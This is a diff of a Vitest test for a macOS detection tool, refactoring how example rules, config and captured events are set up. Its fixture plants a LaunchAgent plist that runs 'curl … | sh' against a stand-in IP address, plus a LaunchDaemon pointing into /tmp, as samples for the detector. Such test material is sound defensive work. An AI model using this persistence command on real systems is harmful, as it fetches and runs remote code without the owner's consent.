@@ -1,4 +1,4 @@
-import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
 import { systemClock } from '../../../src/base/clock.js';
@@ -9,6 +9,7 @@ import { multiplyAlerts } from '../../helpers/many-alerts.js';
 import { cli, tempFolder } from '../../helpers/run-cli.js';
 import { fakeSystem } from '../install/fake-system.js';
 import { detection, fileEvent, plistPath, processEvent, rule, storedAlerts } from './alert-fixture.js';
+import { putExampleFiles } from './example-files.js';
 
 // On a machine that has much else to do.
 vi.setConfig({ testTimeout: 120_000 });
@@ -91,34 +92,12 @@ function world(kind: Kind) {
   store.events.append(events);
   store.close();
   if (kind === 'many') multiplyAlerts(dataDir, 10_006);
-  const ruleFile = (id: string) =>
-    readFileSync('src/rules/builtin/login-hook-set.toml', 'utf8').replace(
-      /^rule_id = .*$/m,
-      `rule_id = "${id}"`,
-    );
-  put('own-rules/a.toml', ruleFile('2c3f9a01-1111-4111-8111-111111111111'));
-  for (const where of [
-    'my-rules/a.toml',
-    'my-rule.toml',
-    'rules/macos/a.toml',
-    'detection-rules/rules/macos/a.toml',
-    'mine.toml',
-  ])
-    put(where, ruleFile('3d000000-1111-4111-8111-111111111111'));
   const captured = JSON.stringify({
     '@timestamp': '2026-01-31T12:00:00Z',
     event: { category: ['file'] },
     file: { path: `/Users/alice/Library/LaunchAgents/${name}.plist` },
   });
-  for (const where of ['events.ndjson', 'capture.ndjson', 'event.json'])
-    put(where, kind === 'empty' ? '' : `${captured}\n`);
-  put('new.toml', '');
-  put(
-    'config.toml',
-    '[rules]\nfolders = ["own-rules"]\n[[destination]]\nname = "siem"\ntype = "file"\npath = "alerts.ndjson"\n',
-  );
-  put('known-bad.txt', `${'ab'.repeat(32)}\n`);
-  mkdirSync(path.join(folder, 'mac/Library/LaunchAgents'), { recursive: true });
+  putExampleFiles(folder, kind === 'empty' ? '' : `${captured}\n`);
   if (kind !== 'empty') {
     put(`mac${plistPath.replace('com.evil', name)}`, list(name, `curl -s http://198.51.100.7/${name} | sh`));
     put(`mac/Library/LaunchDaemons/${name}.plist`, list(name, `/tmp/${name}`));
